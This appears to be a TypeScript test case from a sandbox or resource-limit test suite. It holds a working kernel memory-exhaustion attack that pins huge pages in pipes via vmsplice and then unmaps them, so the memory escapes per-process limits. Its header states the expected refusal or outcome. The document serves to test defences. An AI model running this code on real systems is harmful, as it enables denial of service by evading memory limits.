// Attack: gives whole huge pages to pipes with vmsplice, one small piece of each, and unmaps them: they stay, and no process has them.
// Ends: exited 0
// Refused: vmsplice: EPERM
// Limits: memory-bytes=100663296
import { MAP_ANONYMOUS, MAP_PRIVATE, mmap, munmap, PROT_READ, PROT_WRITE, pipe } from "#posix";
import { attempt } from "./means/attempt.ts";
import { hold } from "./means/hold.ts";
import { loadNative } from "./means/native.ts";

const HUGE = 2 * 1024 ** 2;
const PIPES = 8; // Of 16 places each: 256 MiB.
const PR_SET_THP_DISABLE = 41;
const MADV_HUGEPAGE = 14;
const MADV_POPULATE_WRITE = 23;
const SPLICE_F_NONBLOCK = 2;

export function attack(): void {
  const { call } = loadNative();
  call("prctl", PR_SET_THP_DISABLE, 0);
  const piece = Buffer.alloc(16);
  for (let place = 0, [, write] = pipe(); place < PIPES * 16; place++) {
    if (place % 16 === 15) [, write] = pipe();
    const at = mmap(null, 2 * HUGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS);
    const page = (at + BigInt(HUGE) - 1n) & ~BigInt(HUGE - 1);
    call("madvise", page, HUGE, MADV_HUGEPAGE);
    call("madvise", page, HUGE, MADV_POPULATE_WRITE);
    piece.writeBigUInt64LE(page, 0);
    piece.writeBigUInt64LE(64n, 8);
    const given = call("vmsplice", write, piece, 1, SPLICE_F_NONBLOCK);
    if (place === 0) attempt("vmsplice", () => given);
    if (given < 0) return;
    munmap(at, 2 * HUGE);
  }
  hold();
}
